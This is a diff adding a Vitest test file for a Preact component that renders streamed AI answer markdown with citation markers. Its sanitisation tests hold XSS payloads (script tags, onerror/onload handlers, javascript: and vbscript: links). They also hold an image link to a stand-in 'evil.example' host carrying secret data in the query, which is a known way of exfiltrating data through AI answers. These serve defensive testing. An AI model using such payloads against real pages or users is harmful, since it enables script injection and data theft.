@@ -1,0 +1,239 @@
+/** What a visitor sees of an answer's text, and that nothing they hold on to is taken from under them. */
+import { signal } from "@preact/signals";
+import { render } from "preact";
+import { act } from "preact/test-utils";
+import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import type { Citation } from "../../proxy/protocol/bodies.ts";
+import { english } from "../text/english.ts";
+import { AnswerText } from "./answer-text.tsx";
+
+const source = (id: string, url: string | null): Citation => ({
+  id,
+  title: `Source ${id}`,
+  url,
+  description: null,
+  image: null,
+});
+const citations = [source("1", "https://a.example/b"), source("2", null), source("3", "javascript:alert(1)")];
+
+let place: HTMLElement;
+
+beforeEach(() => {
+  vi.useFakeTimers({
+    toFake: ["setTimeout", "clearTimeout", "requestAnimationFrame", "cancelAnimationFrame"],
+  });
+  place = document.createElement("div");
+  document.body.append(place);
+});
+
+afterEach(() => {
+  render(null, place);
+  place.remove();
+  vi.useRealTimers();
+});
+
+function show(
+  text: string,
+  sources: readonly Citation[] = citations,
+  onMarker?: (citation: Citation) => void,
+) {
+  return act(() =>
+    render(
+      <AnswerText
+        source={text}
+        growing={false}
+        citations={sources}
+        texts={english}
+        {...(onMarker && { onMarker })}
+      />,
+      place,
+    ),
+  );
+}
+
+const pass = (milliseconds: number) =>
+  act(() => {
+    vi.advanceTimersByTime(milliseconds);
+  });
+
+const find = (selector: string): Element => {
+  const found = place.querySelector(selector);
+  if (!found) throw new Error(`${selector} is missing in ${place.innerHTML}`);
+  return found;
+};
+
+describe("a settled answer", () => {
+  it("begins its headings below the page's own", async () => {
+    await show("# a\n\n### b\n\n###### c");
+    expect([...place.querySelectorAll("h3,h4,h5,h6")].map((each) => each.tagName)).toEqual([
+      "H3",
+      "H4",
+      "H6",
+    ]);
+  });
+
+  it("opens links in a new tab and says so", async () => {
+    await show("[a](https://a.example)");
+    const link = find("a");
+    expect(link.getAttribute("href")).toBe("https://a.example/");
+    expect(link.getAttribute("target")).toBe("_blank");
+    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(link.textContent).toBe(`a ${english.opensInNewTab}`);
+  });
+
+  it("leaves mail and telephone to the programs for them", async () => {
+    await show("[a](mailto:a@b.example) [b](tel:+1)");
+    for (const link of place.querySelectorAll("a")) expect(link.hasAttribute("target")).toBe(false);
+    expect(find("p").textContent).toBe("a b");
+  });
+
+  it("makes a marker a link to its source, and leaves a marker without one as it was written", async () => {
+    const followed = vi.fn();
+    await show("a [1] b [2] c [3] d [9]", citations, followed);
+    expect([...place.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual([
+      "https://a.example/b",
+    ]);
+    expect(find("p").textContent).toBe(`a 1 ${english.opensInNewTab} b [2] c [3] d [9]`);
+    find("a.marker").dispatchEvent(new Event("click"));
+    expect(followed).toHaveBeenCalledExactlyOnceWith(citations[0]);
+  });
+
+  it("names a picture instead of loading it", async () => {
+    await show("![a chart](https://evil.example/?d=secret)");
+    expect(place.querySelector("img")).toBeNull();
+    expect(find("a").textContent).toContain("a chart");
+  });
+
+  it("lets a wide table scroll by keyboard, and says which cells are heads", async () => {
+    await show("| a | b |\n|:-:|--:|\n| c | d |");
+    const region = find("[role=region]");
+    expect(region.getAttribute("tabindex")).toBe("0");
+    expect(region.getAttribute("aria-label")).toBe(english.scrollable);
+    expect(find("th").getAttribute("scope")).toBe("col");
+    expect(find("td").className).toBe("align-center");
+  });
+
+  it("shows tasks as boxes that have a name and cannot be ticked", async () => {
+    await show("- [x] buy **milk**\n- [ ] rest");
+    const boxes = [...place.querySelectorAll("input")];
+    expect(boxes.map((box) => [box.disabled, box.checked, box.getAttribute("aria-label")])).toEqual([
+      [true, true, "buy milk"],
+      [true, false, "rest"],
+    ]);
+  });
+
+  it("puts no handler, style, id or foreign element into the page, whatever the answer says", async () => {
+    await show(
+      [
+        '<img src=x onerror="alert(1)"><script>alert(1)</script><svg onload=alert(1)>',
+        "[a](javascript:alert(1)) [b](<java\tscript:alert(1)>) [c](data:text/html,x) <javascript:alert(1)>",
+        '[d](https://a.example "\\" onmouseover=alert(1)") ![e](vbscript:x)',
+        '```"><script>\n</code></pre><script>alert(1)</script>\n```',
+        '| <b style="x"> |\n|-|\n| <a id="x" href="javascript:x">y</a> |',
+        "# <style>*{display:none}</style> {#id}",
+      ].join("\n\n"),
+    );
+    const allowed = /^(class|href|title|target|rel|dir|role|aria-label|tabindex|scope)$/;
+    for (const element of place.querySelectorAll("*")) {
+      expect(element.tagName).toMatch(/^(DIV|P|A|SPAN|CODE|PRE|TABLE|THEAD|TBODY|TR|TH|TD|H3)$/);
+      for (const name of element.getAttributeNames()) expect(name).toMatch(allowed);
+      expect(element.getAttribute("href") ?? "https:").toMatch(/^https:/);
+      expect(element.getAttribute("class") ?? "").not.toContain("script");
+    }
+    expect(place.textContent).toContain("<script>alert(1)</script>");
+  });
+});
+
+describe("a growing answer", () => {
+  const start = async (first = "") => {
+    const text = signal(first);
+    const draw = (growing: boolean) =>
+      act(() => render(<AnswerText source={text} growing={growing} citations={[]} texts={english} />, place));
+    await draw(true);
+    await pass(300);
+    return {
+      add: async (piece: string) => {
+        text.value += piece;
+        await pass(20);
+      },
+      text,
+      end: () => draw(false),
+    };
+  };
+
+  it("is drawn once a frame, however many pieces came", async () => {
+    const answer = await start("a");
+    for (const piece of ["b", "c", "d"]) answer.text.value += piece;
+    expect(place.textContent).toBe("a");
+    await pass(20);
+    expect(place.textContent).toBe("abcd");
+  });
+
+  it("is drawn where no frames come", async () => {
+    vi.stubGlobal("requestAnimationFrame", () => 0);
+    const answer = await start("a");
+    await answer.add("b");
+    expect(place.textContent).toBe("a");
+    await pass(300);
+    expect(place.textContent).toBe("ab");
+    vi.unstubAllGlobals();
+  });
+
+  it("keeps every node a visitor may have selected", async () => {
+    const answer = await start("# Head\n\nSome *words*\n\n- one\n- two\n\n| a |\n|-|\n| b |\n\n```js\nlet a");
+    const before = [...place.querySelectorAll("h3,p,em,li,td,pre,code")];
+    const texts = before.map((element) => element.firstChild);
+    await answer.add(" = 1\n```\n\nMore\n\n- three\n\n- four");
+    await answer.add("\n\nLast words!");
+    await answer.end();
+    expect(before.every((element) => element.isConnected)).toBe(true);
+    expect(before.map((element) => element.firstChild)).toEqual(texts);
+    expect(find("code").textContent).toBe("let a = 1\n");
+    expect(place.textContent).toContain("Last words!");
+  });
+
+  it("keeps the items of a tight list when a blank line makes it loose", async () => {
+    const answer = await start("- one\n- two\n");
+    const paragraphs = [...place.querySelectorAll("li p")];
+    expect(find("ul").className).toBe("tight");
+    await answer.add("\n- three");
+    expect(find("ul").className).toBe("loose");
+    expect([...place.querySelectorAll("li p")].slice(0, 2)).toEqual(paragraphs);
+  });
+
+  it("keeps a half-written link's node when its address comes", async () => {
+    const answer = await start("see [the do");
+    const link = find("a");
+    expect(link.hasAttribute("href")).toBe(false);
+    await answer.add("cs](https://a.example)");
+    expect(find("a")).toBe(link);
+    expect(link.getAttribute("href")).toBe("https://a.example/");
+  });
+
+  it("shows a marker without its brackets until the sources are known", async () => {
+    const answer = await start("so it is [1] and");
+    expect(find("p").textContent).toBe("so it is 1 and");
+    await answer.end();
+    expect(find("p").textContent).toBe("so it is [1] and");
+  });
+
+  it("is read anew when the text does not go on as before", async () => {
+    const answer = await start("one **two");
+    answer.text.value = "three";
+    await pass(20);
+    expect(place.textContent).toBe("three");
+  });
+
+  it("puts long answers and long code into pieces that can be skipped", async () => {
+    const answer = await start(`${"word\n\n".repeat(40)}\`\`\`\n${"x = 1\n".repeat(1000)}`);
+    expect([...place.querySelectorAll(".blocks")].map((group) => group.className)).toEqual([
+      "blocks whole",
+      "blocks whole",
+      "blocks",
+    ]);
+    const pieces = [...place.querySelectorAll("pre span")];
+    expect(pieces.length).toBeGreaterThan(2);
+    await answer.add("y = 2\n");
+    expect([...place.querySelectorAll("pre span")].slice(0, pieces.length)).toEqual(pieces);
+  });
+});
